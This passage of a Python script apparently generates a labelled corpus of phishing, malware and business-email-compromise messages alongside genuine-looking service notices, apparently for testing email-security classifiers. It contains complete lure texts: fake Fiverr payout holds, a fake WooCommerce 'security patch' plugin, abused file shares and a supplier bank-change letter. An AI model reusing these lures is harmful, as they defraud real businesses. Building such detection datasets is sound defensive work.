          "whose AutoOpen macro runs a hidden PowerShell download cradle.",
          BELL, s, Auth(policy="none"), frm=addr("David Moreau", "dmoreau.halcyoncoffee@gmail.com"),
          subject="Halcyon rebrand - let's continue here", sent=sent, body=body, order="gmail", to="marco@bellinistudio.it")


def a50_fiverr_es() -> None:
    stem = f"{PREFIX}-phish-fiverr-retiro-retenido-es"
    sent = T("2025-05-28 19:12:45 +0200")
    s = ses("fiverr-pagos.com", sent, stem, region="eu-west-1", mailfrom=f"0102019{hexs(stem, 9)}@send.fiverr-pagos.com")
    url = "https://fiverr-pagos.com/retiros/verificar?u=anaortega_trad&w=WD-5518204"
    markup = card(brand="fiverr.", color="#1dbf73", lang="es", heading="Tu retiro está retenido",
                  font="Macan, 'Helvetica Neue', Helvetica, Arial, sans-serif",
                  paras=["Hola anaortega_trad,",
                         "Tu solicitud de retiro <b>WD-5518204</b> por <b>1.240,00 US$</b> ha sido retenida por nuestro equipo de Confianza y Seguridad.",
                         "Para liberar los fondos necesitamos que confirmes la titularidad de tu cuenta de cobro (Payoneer o PayPal) antes de 48 horas. "
                         "Si no recibimos la confirmación, el importe se devolverá a tu saldo y tu cuenta de vendedor quedará en revisión.",
                         "El proceso tarda menos de 3 minutos."],
                  button=("Confirmar cuenta de cobro", url),
                  footer=["Fiverr International Ltd., 8 Eliezer Kaplan St, Tel Aviv 6473409, Israel",
                          "Has recibido este correo porque eres vendedor en Fiverr."])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Spanish Fiverr 'your $1,240 withdrawal is on hold, confirm your Payoneer/PayPal' notice to a translator from the look-alike "
          "fiverr-pagos.com via Amazon SES (passes), linking to a credential and payout-account harvester.",
          ANA, s, Auth(dmarc="none", policy="none"), frm=addr("Fiverr", "noreply@fiverr-pagos.com"),
          subject="Tu retiro de 1.240,00 US$ está retenido", sent=sent, body=body, to="ana@anaortegatraduce.com", lang="es-ES")


def a52_woocommerce_patch() -> None:
    stem = f"{PREFIX}-phish-woocommerce-fake-security-patch"
    sent = T("2025-04-15 13:26:03 +0000")
    s = sendgrid("woocommerce-secure.com", sent, stem)
    url = "https://woocommerce-secure.com/security/patch/woocommerce-security-patch-2025-04.zip"
    markup = card(brand="WooCommerce", color="#7f54b3", heading="Critical security update for your store",
                  paras=["Hello ateliercamille.fr administrator,",
                         "Our security team has identified a critical <b>Unauthenticated Administrator Creation</b> vulnerability "
                         "(CVE-2025-31276, CVSS 9.8) affecting WooCommerce 8.x and 9.x. Our scans show that your store "
                         "<b>ateliercamille.fr</b> is running an affected version.",
                         "Until the next core release, a security patch is available as a plugin. Please download it and install it via "
                         "<i>Plugins &gt; Add New &gt; Upload Plugin</i>, then activate it.",
                         "Stores that are not patched within 72 hours may be exposed to automated attacks that steal customer and payment data."],
                  button=("Download security patch", url),
                  footer=["WooCommerce Security Team", "Automattic Inc., 60 29th Street #343, San Francisco, CA 94110",
                          "You received this email because you are registered as a store administrator."],
                  pixel=f"https://u{rint(stem, 10000000, 49999999)}.ct.sendgrid.net/wf/open?upn={urlsafe(stem + 'open', 120)}")
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "malware",
          "Fake WooCommerce 'critical vulnerability, install this security patch plugin' notice to a French shop from the look-alike "
          "woocommerce-secure.com via SendGrid; the download is a backdoor plugin ZIP for the WordPress site.",
          CAM, s, Auth(dmarc="none", policy="none"), frm=addr("WooCommerce", "security@woocommerce-secure.com"),
          subject="Critical security update required for your WooCommerce store", sent=sent, body=body, to="camille@ateliercamille.fr")


def a53_canva_share() -> None:
    stem = f"{PREFIX}-phish-canva-share-invoice"
    sent = T("2025-06-24 08:45:31 +0000")
    s = ses("canva.com", sent, stem, region="us-east-1", mailfrom=f"01000197{hexs(stem, 8)}@engage.canva.com",
            selector="jq6dlhkgcxncsl6acphygzrsthiwfkur")
    design = f"https://www.canva.com/design/DAGr{alnum(stem + 'ds', 7)}/{alnum(stem + 'vk', 22)}/view?utm_content=DAGr{alnum(stem + 'ds', 7)}&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks&utlId=h{hexs(stem + 'utl', 9)}"
    markup = card(brand="Canva", color="#8b3dff", heading="Javier Ruiz shared a design with you",
                  paras=["<b>Factura pendiente – Casa Olivo – Ver documento</b>",
                         "Javier Ruiz (javier.ruiz@distribucionesnortesl.com) invited you to view this design.",
                         "Message: &ldquo;Buenos días, adjunto la factura del último pedido. Un saludo.&rdquo;"],
                  button=("Open design", design),
                  footer=["This email was sent to ventas@casaolivo.es because Javier Ruiz shared a design with you.",
                          "Canva® 110 Kippax St, Surry Hills NSW 2010, Australia"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Genuine Canva share notification (canva.com via SES, passes) abused by a compromised distributor's account: the 'pending invoice' "
          "design is a one-page lure whose button leads to a Microsoft-login phishing page.",
          OLIVO, s, Auth(policy="quarantine", bcl=1), frm=addr("Canva", "no-reply@canva.com"),
          subject="Javier Ruiz shared \"Factura pendiente – Casa Olivo – Ver documento\" with you", sent=sent, body=body,
          to="ventas@casaolivo.es", reply_to="javier.ruiz@distribucionesnortesl.com")


def _dropbox_sender(stem: str, sent: datetime) -> Sender:
    n = rint(stem + "db", 10, 60)
    host, ip = f"mail-{n}.outbound.dropbox.com", f"162.125.{rint(stem + 'dba', 2, 6)}.{n}"
    trace = [dkim_header("dropbox.com", "dbx2023", stem + "dbd", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
             f"Received: from mailsender-{hexs(stem + 'ms', 6)}.dropbox.com (localhost [127.0.0.1])\n\tby {host} (Postfix) with ESMTP id 4{alnum(stem + 'dq', 11)}\n\tfor <{{rcpt_addr}}>; {fmt(sent, 0)}"]
    return custom(f"bounces+{hexs(stem + 'bo', 12)}@bounce.dropbox.com", host, ip, trace, [("dropbox.com", "dbx2023")],
                  f"<{hexs(stem + 'dm', 32)}@dropbox.com>",
                  after=["X-Dropbox-Email-Type: shared_content_invite", "Feedback-ID: shared_content:dropbox"])


def a54_dropbox_share() -> None:
    stem = f"{PREFIX}-phish-dropbox-share-wholesale"
    sent = T("2024-09-24 14:12:07 -0700")
    s = _dropbox_sender(stem, sent)
    link = f"https://www.dropbox.com/scl/fi/{alnum(stem + 'fi', 21).lower()}/Brightpeak-Wholesale-Order-Q4.pdf?rlkey={alnum(stem + 'rl', 25).lower()}&dl=0&e=1"
    markup = card(brand="Dropbox", color="#0061fe", heading="Kelsey Tran shared a file with you",
                  font="'Sharp Grotesk', 'Helvetica Neue', Arial, sans-serif",
                  paras=["<b>Brightpeak-Wholesale-Order-Q4.pdf</b>",
                         "&ldquo;Hi Kevin - PO for the Q4 restock is in here, please confirm pricing before Friday. Thanks!&rdquo;"],
                  button=("Open", link),
                  footer=["Kelsey Tran (kelsey@trailheadoutfitters.net) shared this with you.",
                          "© 2024 Dropbox, Inc. 1800 Owens St, San Francisco, CA 94158"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Genuine Dropbox share invitation (dropbox.com, passes) from a compromised retailer's account: the shared 'wholesale order' PDF "
          "only contains a 'view document' button to a credential phishing page.",
          BRIGHT, s, Auth(policy="reject"), frm=addr("Kelsey Tran (via Dropbox)", "no-reply@dropbox.com"),
          subject='Kelsey Tran shared "Brightpeak-Wholesale-Order-Q4.pdf" with you', sent=sent, body=body,
          to="ops@brightpeakgear.com", reply_to=addr("Kelsey Tran", "kelsey@trailheadoutfitters.net"))


def a55_docsend() -> None:
    stem = f"{PREFIX}-phish-docsend-brand-collab"
    sent = T("2025-09-30 16:04:44 +0000")
    s = sendgrid("docsend.com", sent, stem, em="em.docsend.com", uid="2187330")
    link = "https://docsend.com/view/9x2kqfz8hrmpjw4c"
    markup = card(brand="DocSend", color="#0061fe", heading="Marisol Vega shared a document with you",
                  paras=["<b>Peakform x Jayden Cole – 2026 Ambassador Proposal</b>",
                         "&ldquo;Hey Jayden! As discussed, here is our ambassador proposal for 2026 (fees, deliverables and the product "
                         "seeding schedule). Let me know what you think!&rdquo;",
                         "Marisol Vega · Peakform Nutrition"],
                  button=("View document", link),
                  footer=["Sent with DocSend, a Dropbox company.", "DocSend, 1800 Owens St, San Francisco, CA 94158"],
                  pixel=f"https://u2187330.ct.sendgrid.net/wf/open?upn={urlsafe(stem + 'open', 120)}")
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "phishing",
          "Genuine DocSend share notification (docsend.com via SendGrid, passes) for a fake brand 'ambassador proposal' sent to a fitness "
          "creator; the DocSend deck's single link goes to a fake Google sign-in.",
          JAY, s, Auth(policy="quarantine"), frm=addr("Marisol Vega via DocSend", "no-reply@docsend.com"),
          subject="Marisol Vega shared \"Peakform x Jayden Cole – 2026 Ambassador Proposal\"", sent=sent, body=body,
          to="team@jaydencolefit.com", reply_to="marisol.vega@peakform-nutrition.co")


def a56_supplier_bec() -> None:
    stem = f"{PREFIX}-phish-supplier-bank-change-bec"
    sent = T("2025-10-21 10:33:19 -0500")
    s = outlook("grace@northfieldwax-supply.com", sent, stem, consumer=False, region="NAM", dkim_d="northfieldwax-supply.com")
    letter = files.pdf(["Northfield Wax Supply Co.", "1420 Industrial Pkwy, Fargo, ND 58102", "", "October 21, 2025", "",
                        "NOTICE OF CHANGE OF BANKING DETAILS", "",
                        "Dear valued customer,",
                        "Please be advised that effective immediately all payments to Northfield Wax Supply Co.",
                        "should be made to our new account below. Our previous account is under audit and",
                        "can no longer receive ACH or wire payments.", "",
                        "Bank: Evolve Bank & Trust", "Account name: Northfield Wax Supply", "Routing (ABA): 084106768",
                        "Account number: 9800 4471 2250", "", "Sincerely,", "Grace Holloway, Accounts Receivable"],
                       title="Bank details update")
    paras = ["Hi Hannah,",
             "Thanks for the order confirmation. Quick heads-up before you pay invoice INV-20931 ($2,846.50 for the soy wax "
             "and wicks): our bank account has changed as we are going through an audit with our old bank, so please don't use "
             "the details on the invoice.",
             "I've attached our letter with the new ACH details. Could you let me know once the payment is scheduled so I can "
             "release the shipment? We'd like to get it on the truck this week.",
             "Thanks so much,"]
    sig = "Grace Holloway<br>Accounts Receivable<br>Northfield Wax Supply Co.<br>(701) 555-0148"
    quote = ("<hr style=\"display:inline-block;width:98%\" tabindex=\"-1\"><div id=\"divRplyFwdMsg\" dir=\"ltr\"><font face=\"Calibri, sans-serif\" style=\"font-size:11pt\" color=\"#000000\">"
             "<b>From:</b> Hannah Reyes &lt;hannah@mapleandmoss.co&gt;<br><b>Sent:</b> Monday, October 20, 2025 4:12 PM<br>"
             "<b>To:</b> Grace Holloway &lt;grace@northfieldwaxsupply.com&gt;<br><b>Subject:</b> Re: Order confirmation - Maple &amp; Moss PO 2025-41</font>"
             "<div>&nbsp;</div></div><div>Hi Grace, confirming the order for 10 cases of C-3 soy wax and 2,000 CD-12 wicks. Invoice received. Thanks! Hannah</div>")
    markup = outlook_html(paras, signature=sig).replace("</body>", quote + "\n</body>")
    body = Multi("mixed", bnd("outlook_mixed", stem), [
        alt(to_plain(markup), markup, stem, "outlook"),
        attachment("application/pdf", "Northfield_Banking_Update.pdf", letter),
    ])
    build(stem, "phishing",
          "Supplier-impersonation BEC to a candle maker: a reply in an invoice thread from northfieldwax-supply.com (look-alike of the "
          "real northfieldwaxsupply.com, attacker's Microsoft 365 tenant, passes) asking to pay INV-20931 to a new bank account.",
          MM, s, Auth(dmarc="pass", policy="none"), frm=addr("Grace Holloway", "grace@northfieldwax-supply.com"),
          subject="RE: Order confirmation - Maple & Moss PO 2025-41", sent=sent, body=body, has_attach=True,
          to=addr("Hannah Reyes", "hannah@mapleandmoss.co"),
          in_reply_to="<CAJ8p1xQm2vT7Lk4nR0sW3eYb9dH6fG5cZ1a@mail.gmail.com>",
          references="<SA1PR12MB7741B2E9D3C0A14F5E8B2C77D8392@SA1PR12MB7741.namprd12.prod.outlook.com> <CAJ8p1xQm2vT7Lk4nR0sW3eYb9dH6fG5cZ1a@mail.gmail.com>")


ATTACKS = [a01_meta_salesforce, a02_meta_business_verification, a03_facebook_comment_abuse, a04_meta_es_compromised,
           a05_meta_it_gmail, a06_instagram_pdf, a07_instagram_copyright_sendgrid, a08_instagram_fr_ipfs, a09_tiktok_shop_mailgun,
           a10_tiktok_ads_wp, a11_tiktok_shop_de, a12_yt_sponsor_zip, a13_yt_sponsor_dropbox, a14_yt_sponsor_mega,
           a15_youtube_copyright_webflow, a16_google_ads_sites, a17_workspace_billing, a18_gbp_callback, a19_review_extortion,
           a21_shopify_de, a23_stripe_it, a24_square_qr, a25_paypal_limited, a26_paypal_invoice_callback, a27_etsy_buyer_qr,
           a28_etsy_mailgun, a29_ebay_compromised, a31_amazon_listing_removed, a32_amazon_de_html, a33_amazon_es,
           a34_complaint_gdrive, a35_complaint_zip_lnk, a36_food_poisoning_it, a37_salon_iso, a38_rfq_r2, a39_devis_gz_exe,
           a41_lawyer_firebase, a42_avvocato_bitbucket, a43_dmca_contact_form, a45_godaddy_fr, a46_namecheap_ssl,
           a47_squarespace_domains, a48_domain_registry_invoice, a49_upwork_docm, a50_fiverr_es, a52_woocommerce_patch,
           a53_canva_share, a54_dropbox_share, a55_docsend, a56_supplier_bec]


# ============================================================================================
# LEGITIMATE LOOK-ALIKES
# ============================================================================================


def l01_meta_ad_rejected() -> None:
    stem = f"{PREFIX}-legit-meta-ad-rejected"
    sent = T("2025-05-02 12:31:06 -0700")
    s = _facebook_sender(stem, sent, "ad_rejected", d="support.facebook.com", mf="advertise-noreply@support.facebook.com")
    mid = hexs(stem + "mid", 13)
    markup = card(brand="Meta", color="#0866ff", heading="Your ad wasn't approved",
                  font="Roboto, Helvetica Neue, Helvetica, Arial, sans-serif", bg="#ffffff",
                  preheader="Your ad \"Taco Tuesday - 2x1 margaritas\" doesn't follow our Advertising Standards",
                  paras=["Hi Luis,",
                         "Your ad <b>Taco Tuesday - 2x1 margaritas</b> in the ad account <b>Taqueria El Nopal</b> wasn't approved because "
                         "it doesn't follow our Advertising Standards on alcohol. Ads that promote alcohol must be targeted to people aged "
                         "21 and older in the United States.",
                         "You can edit the ad's audience in Ads Manager and submit it for review again. If you think this decision is "
                         "incorrect, you can request another review.",
                         f"<a href=\"https://www.facebook.com/business/help/1245872892152520?ref=email&mid={mid}\" style=\"color:#0866ff\">Learn more about our alcohol policy</a>"],
                  button=("Go to Account Quality", f"https://business.facebook.com/accountquality/?business_id=1187204458830112&ref=email&mid={mid}"),
                  footer=["This message was sent to luis@elnopalatx.com. To help keep your account secure, please don't forward this email.",
                          "Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025"],
                  pixel=f"https://www.facebook.com/email_open_log_pic.php?mid={mid}G5af{hexs(stem + 'm3', 10)}")
    body = alt(to_plain(markup), markup, stem, "fb")
    build(stem, "clean",
          "Genuine Meta ad-rejection notice (support.facebook.com, Facebook MTAs) telling a taqueria its margarita ad needs 21+ targeting, "
          "with links only to facebook.com help and Account Quality.",
          NOPAL, s, Auth(policy="reject"), frm=addr("Meta for Business", "advertise-noreply@support.facebook.com"),
          subject="Your ad wasn't approved: Taco Tuesday - 2x1 margaritas", sent=sent, body=body, to="luis@elnopalatx.com")


def l02_instagram_ip_removal() -> None:
    stem = f"{PREFIX}-legit-instagram-ip-removal"
    sent = T("2025-03-09 14:55:40 -0700")
    s = _facebook_sender(stem, sent, "ig_ip_takedown", d="mail.instagram.com", mf="no-reply@mail.instagram.com")
    markup = card(brand="Instagram", color="#0095f6", bg="#ffffff", heading="We removed your reel",
                  paras=["Hi jaydencolefit,",
                         "We removed your reel posted on March 7, 2025 because it may infringe someone else's copyright. "
                         "The report was submitted by the rights owner of the music used in your reel.",
                         "If you think we made a mistake, you can appeal this decision from your Account Status page in the Instagram app. "
                         "Repeat violations of our Community Guidelines may lead to account restrictions.",
                         "<a href=\"https://help.instagram.com/126382350847838\" style=\"color:#0095f6\">Learn more about copyright on Instagram</a>"],
                  button=("View account status", "https://www.instagram.com/accounts/account_status/?utm_source=ig_email"),
                  footer=["© Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025",
                          "This message was sent to team@jaydencolefit.com and intended for jaydencolefit. Not your account? "
                          "<a href=\"https://www.instagram.com/accounts/remove/request/\">Remove your email</a> from this account."])
    body = alt(to_plain(markup), markup, stem, "fb")
    build(stem, "clean",
          "Genuine Instagram notice (mail.instagram.com) that a fitness creator's reel was removed after a music copyright report, pointing "
          "to Account Status in the app and help.instagram.com.",
          JAY, s, Auth(policy="reject"), frm=addr("Instagram", "no-reply@mail.instagram.com"),
          subject="We removed your reel", sent=sent, body=body, to="team@jaydencolefit.com")


def l03_tiktok_shop_product() -> None:
    stem = f"{PREFIX}-legit-tiktok-shop-product-deactivated"
    sent = T("2025-08-12 03:18:22 +0000")
    s = ses("shop.tiktok.com", sent, stem, region="us-east-1", mailfrom=f"010001{hexs(stem, 10)}@mail.shop.tiktok.com")
    markup = card(brand="TikTok Shop", color="#fe2c55", bg="#f8f8f8", heading="Product deactivated: policy violation",
                  paras=["Hi JCF Store,",
                         "One of your products has been deactivated because it doesn't meet the TikTok Shop Product Listing Policy.",
                         "Product: <b>JCF Shaker Bottle 28oz - Matte Black</b><br>Product ID: 1729384471045521003<br>"
                         "Reason: Misleading claims in product description (\"clinically proven\")",
                         "To reactivate it, edit the product description in Seller Center and resubmit it for review. Other products "
                         "in your shop are not affected."],
                  button=("Go to Seller Center", "https://seller-us.tiktok.com/product/manage?tab=deactivated&shop_region=US"),
                  footer=["TikTok Shop", "This email was sent to team@jaydencolefit.com. This is a system email; replies to this address are not monitored."])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "clean",
          "Genuine TikTok Shop Seller Center notice that one merch product was deactivated for a misleading claim, linking only to "
          "seller-us.tiktok.com.",
          JAY, s, Auth(policy="reject"), frm=addr("TikTok Shop", "noreply@shop.tiktok.com"),
          subject="[TikTok Shop] Product deactivated: JCF Shaker Bottle 28oz - Matte Black", sent=sent, body=body, to="team@jaydencolefit.com")


def l04_youtube_copyright_claim() -> None:
    stem = f"{PREFIX}-legit-youtube-copyright-claim"
    sent = T("2024-09-03 10:42:17 -0700")
    s = google_notif("-youtube-copyright", "scoutcamp.bounces.google.com", "youtube.com", sent, stem, PRIYA)
    markup = card(brand="YouTube", color="#065fd4", bg="#ffffff", font="Roboto, Arial, sans-serif",
                  heading="Copyright claim on your video",
                  paras=["Hi Priya Makes,",
                         "Your video <b>\"DIY Terrazzo Coasters with Leftover Resin\"</b> has a Content ID claim from "
                         "<b>Epidemic Sound AB</b> for the music track used between 0:42 and 1:15.",
                         "This is not a copyright strike and your channel is not affected. The claimant will share revenue from ads on this video.",
                         "You can review the claim in YouTube Studio, where you can trim the segment, replace the song or dispute the claim "
                         "if you have a license."],
                  button=("See options", "https://studio.youtube.com/video/Rk3v9QpW2xE/copyright"),
                  footer=["You received this email to provide updates and information about your YouTube channel.",
                          "© 2024 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA"])
    body = alt(to_plain(markup), markup, stem, "gmail")
    build(stem, "clean",
          "Genuine YouTube Content ID claim notice (youtube.com via Google's servers) to a DIY creator, stating it is not a strike and "
          "linking to YouTube Studio.",
          PRIYA, s, Auth(policy="reject"), frm=addr("YouTube", "no-reply@youtube.com"),
          subject="Copyright claim on your video", sent=sent, body=body, to="priya@priyamakes.com", order="gmail",
          extra=[f"Feedback-ID: {rint(stem, 100000, 999999)}:youtube-copyright:{hexs(stem + 'fb', 8)}:youtube"])


def l05_google_ads_declined() -> None:
    stem = f"{PREFIX}-legit-google-ads-payment-declined"
    sent = T("2025-02-03 06:12:54 -0800")
    s = google_notif("-adwords-noreply", "adwords.bounces.google.com", "google.com", sent, stem, BRIGHT)
    markup = card(brand="Google Ads", color="#1a73e8", bg="#ffffff", font="'Google Sans', Roboto, Arial, sans-serif",
                  heading="Your payment was declined",
                  paras=["Customer ID: 731-204-5589<br>Brightpeak Outdoor Gear",
                         "We couldn't charge your primary payment method (Visa ending in 2207) for $1,184.32. Your ads will stop running "
                         "until a payment goes through.",
                         "To get your ads running again, sign in to your account and update your payment method or make a manual payment. "
                         "If your card was declined by your bank, you may want to contact them."],
                  button=("Fix payment", "https://ads.google.com/aw/billing/summary?ocid=118420375&__u=8830144027&__c=4417208851&authuser=0"),
                  footer=["© 2025 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043",
                          "You have received this mandatory service announcement to update you about important changes to your Google Ads account."])
    body = alt(to_plain(markup), markup, stem, "gmail")
    build(stem, "clean",
          "Genuine Google Ads 'payment declined, ads stopped' service announcement (google.com via Google's servers) linking only to "
          "ads.google.com billing.",
          BRIGHT, s, Auth(policy="reject"), frm=addr("Google Ads", "ads-account-noreply@google.com"),
          subject="Action needed: Your payment for Google Ads account 731-204-5589 was declined", sent=sent, body=body,
          to="ops@brightpeakgear.com", order="gmail")


def l06_shopify_payouts() -> None:
    stem = f"{PREFIX}-legit-shopify-payouts-paused"
    sent = T("2025-01-21 15:07:33 -0500")
    s = sendgrid("shopify.com", sent, stem, em="email.shopify.com", uid="1593278")
    markup = card(brand="shopify", color="#008060", bg="#f1f1f1",
                  font="-apple-system, BlinkMacSystemFont, 'San Francisco', 'Segoe UI', Roboto, 'Helvetica Neue', sans-serif",
                  heading="Your payouts are paused",
                  paras=["Hi Hannah,",
                         "We need more information to verify your business before we can send payouts for <b>Maple &amp; Moss Candles</b>. "
                         "You can keep selling, and your balance is safe - payouts will resume as soon as verification is complete.",
                         "What we need: a document confirming your business address (utility bill or bank statement dated within the last 90 days)."],
                  button=("Provide information", "https://admin.shopify.com/store/maple-and-moss/settings/payments/shopify-payments/verification"),
                  after_button=["If you have questions, visit the <a href=\"https://help.shopify.com/en/manual/payments/shopify-payments/verification\" style=\"color:#008060\">Help Center</a>."],
                  footer=["Shopify, 151 O'Connor Street, Ground floor, Ottawa, ON, K2P 2L8, Canada",
                          "You're receiving this email because you're the owner of maple-and-moss.myshopify.com."])
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "clean",
          "Genuine Shopify Payments 'payouts paused pending address verification' notice (mailer@shopify.com) linking to the shop's own "
          "admin.shopify.com settings.",
          MM, s, Auth(policy="reject"), frm=addr("Shopify", "mailer@shopify.com"),
          subject="Action required: your payouts are paused", sent=sent, body=body, to="hannah@mapleandmoss.co")


def l07_stripe_it() -> None:
    stem = f"{PREFIX}-legit-stripe-verifica-it"
    sent = T("2025-06-10 17:45:02 +0000")
    s = ses("stripe.com", sent, stem, region="us-west-2", mailfrom=f"0101019{hexs(stem, 9)}@mail.stripe.com")
    markup = card(brand="stripe", color="#635bff", bg="#f6f9fc", lang="it",
                  font="-apple-system, 'SF UI Text', 'Helvetica Neue', Helvetica, Ubuntu, sans-serif",
                  heading="Aggiorna i dati del tuo account entro il 24 giugno",
                  paras=["Ciao Marco,",
                         "per continuare a ricevere bonifici sul tuo conto bancario, Stripe deve raccogliere alcune informazioni aggiuntive "
                         "sul tuo account <b>Bellini Studio</b>, come richiesto dalle normative finanziarie dell'Unione europea.",
                         "Informazioni richieste: documento d'identità del rappresentante legale e codice fiscale.",
                         "Se non aggiorni i dati entro il 24 giugno 2025, i bonifici verranno sospesi finché le informazioni non saranno fornite."],
                  button=("Aggiorna il tuo account", "https://dashboard.stripe.com/account/onboarding"),
                  footer=["Hai ricevuto questa email perché sei l'amministratore dell'account Stripe Bellini Studio (acct_1Nq8hT2eZvKYlo2C).",
                          "Stripe Payments Europe, Limited, 1 Grand Canal Street Lower, Grand Canal Dock, Dublin, D02 H210, Irlanda"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "clean",
          "Genuine Italian Stripe request (notifications@stripe.com via SES) to update KYC details before a deadline or payouts pause, "
          "linking only to dashboard.stripe.com.",
          BELL, s, Auth(policy="reject"), frm=addr("Stripe", "notifications@stripe.com"),
          subject="Azione richiesta: aggiorna le informazioni del tuo account Stripe", sent=sent, body=body,
          to="marco@bellinistudio.it", lang="it-IT")


def l08_square_transfer() -> None:
    stem = f"{PREFIX}-legit-square-transfer-review"
    sent = T("2024-11-27 09:58:41 -0800")
    s = sendgrid("messaging.squareup.com", sent, stem, em="em.messaging.squareup.com", uid="3348120")
    markup = card(brand="Square", color="#006aff", bg="#ffffff", heading="Your transfer is delayed",
                  paras=["Hi Luis,",
                         "Your transfer of <b>$4,218.55</b> for Taqueria El Nopal is delayed while we review recent activity on your account. "
                         "This is routine and usually takes 1-2 business days. You can continue to take payments as usual.",
                         "If we need more information, we'll let you know in your Square Dashboard."],
                  button=("View balance", "https://app.squareup.com/dashboard/balance"),
                  footer=["Square, Inc. 1955 Broadway, Suite 600, Oakland, CA 94612",
                          "<a href=\"https://squareup.com/legal/general/privacy\">Privacy Policy</a> · This email was sent to luis@elnopalatx.com."])
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "clean",
          "Genuine Square notice (messaging.squareup.com) that a restaurant's transfer is delayed for a routine review, linking to the "
          "Square Dashboard.",
          NOPAL, s, Auth(policy="reject"), frm=addr("Square", "noreply@messaging.squareup.com"),
          subject="Your transfer is delayed", sent=sent, body=body, to="luis@elnopalatx.com")


def l09_paypal_received_uk() -> None:
    stem = f"{PREFIX}-legit-paypal-payment-received-uk"
    sent = T("2025-03-30 19:24:15 +0100")
    s = _paypal_sender(stem, sent, d="paypal.co.uk", mf="service@paypal.co.uk")
    markup = card(brand="PayPal", color="#003087", bg="#f5f7fa", font="'PayPal Sans', 'Helvetica Neue', Arial, sans-serif",
                  heading="You've got money",
                  paras=["Hello Tom Ashworth,",
                         "You received a payment of <b>£145.00 GBP</b> from Daniel Price (dprice84@btinternet.com).",
                         "Transaction ID: 4KX29718HM5530214<br>Note from buyer: &ldquo;For the Sony TC-K611S deck, cheers&rdquo;",
                         "It may take a few moments for this transaction to appear in your account."],
                  button=("View transaction details", "https://www.paypal.com/myaccount/activity/payment/4KX29718HM5530214"),
                  footer=["PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.",
                          "Copyright © 1999-2025 PayPal. All rights reserved.",
                          "PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "clean",
          "Genuine PayPal UK 'You've got money' payment notification (service@paypal.co.uk) for a cassette deck sold by an eBay seller.",
          RETRO, s, Auth(policy="reject"), frm=addr("service@paypal.co.uk", "service@paypal.co.uk"),
          subject="You've got money", sent=sent, body=body, to=addr("Tom Ashworth", "tom@retrorelay.co.uk"), lang="en-GB")


def l10_etsy_reserve() -> None:
    stem = f"{PREFIX}-legit-etsy-payment-reserve"
    sent = T("2025-02-11 11:03:38 -0500")
    s = sendgrid("etsy.com", sent, stem, em="em.etsy.com", uid="1102493")
    markup = card(brand="Etsy", color="#222222", bg="#ffffff", font="Graphik Webfont, -apple-system, Helvetica Neue, Arial, sans-serif",
                  heading="A reserve has been placed on your Etsy Payments account",
                  paras=["Hi Nora,",
                         "To help make sure buyers are protected while your shop grows, we've placed a reserve on a portion of your funds. "
                         "75% of each sale will be held until the estimated delivery date of the order, then released to your payment account.",
                         "This isn't a penalty, and your shop can keep selling as normal. Reserves are reviewed regularly and can be removed as "
                         "your shop builds a history of on-time deliveries."],
                  button=("View payment account", "https://www.etsy.com/your/shops/me/payments/account"),
                  after_button=["<a href=\"https://help.etsy.com/hc/en-us/articles/4402982862487\" style=\"color:#222\">Learn more about reserves</a>"],
                  footer=["Etsy, Inc., 117 Adams Street, Brooklyn, NY 11201",
                          "This email was sent to nora@wildfernceramics.com because you have an Etsy shop."])
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "clean",
          "Genuine Etsy Payments reserve notice (etsy.com via SendGrid) to a ceramics seller, linking to etsy.com payments and Help Center.",
          WILD, s, Auth(policy="reject"), frm=addr("Etsy", "transaction@etsy.com"),
          subject="A reserve has been placed on your Etsy Payments account", sent=sent, body=body, to="nora@wildfernceramics.com")


def l11_ebay_sold() -> None:
    stem = f"{PREFIX}-legit-ebay-item-sold"
    sent = T("2025-06-05 21:40:12 +0100")
    n = rint(stem, 10, 90)
    trace = [dkim_header("ebay.com", "s1024", stem + "eb", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", bits=1024),
             f"Received: from rtmpmta{rint(stem + 'r', 1, 9)}.phx.ebay.com (localhost [127.0.0.1])\n\tby mxphxpool{rint(stem + 'p', 2000, 2099)}.ebay.com (Postfix) with ESMTP id 4{alnum(stem + 'q', 11)}\n\tfor <{{rcpt_addr}}>; {fmt(sent, -7)}"]
    s = custom("ebay@ebay.com", f"mxphxpool{rint(stem + 'p', 2000, 2099)}.ebay.com", f"66.211.185.{n}", trace, [("ebay.com", "s1024")],
               f"<{hexs(stem + 'm', 10).upper()}.{digits(stem + 'mm', 13)}.{rint(stem, 10000, 99999)}.{alnum(stem + 'x', 6)}@starship>",
               after=["X-eBay-Mailtracker: " + "11000.000.0.0.0." + hexs(stem + "mt", 32), "X-Priority: 3", f"X-ItemViewed: 0"])
    markup = card(brand="ebay", color="#3665f3", bg="#ffffff", font="'Market Sans', Arial, sans-serif",
                  heading="You made the sale for Sony Walkman WM-EX194 Cassette Player - Working, Boxed",
                  paras=["Hi retrorelay_uk,",
                         "Sold for: <b>£64.00</b> + £4.99 postage<br>Buyer: j_marsh1978<br>Item ID: 306215548812",
                         "Please post the item by <b>Monday, 9 June</b>. Buyers love fast dispatch, and it helps you keep your Top Rated status.",
                         "Postage address:<br>Jamie Marsh<br>14 Oakfield Road<br>Leeds LS6 3DP<br>United Kingdom"],
                  button=("Print postage label", "https://www.ebay.co.uk/sh/ord/details?orderid=03-12944-71850&source=mail"),
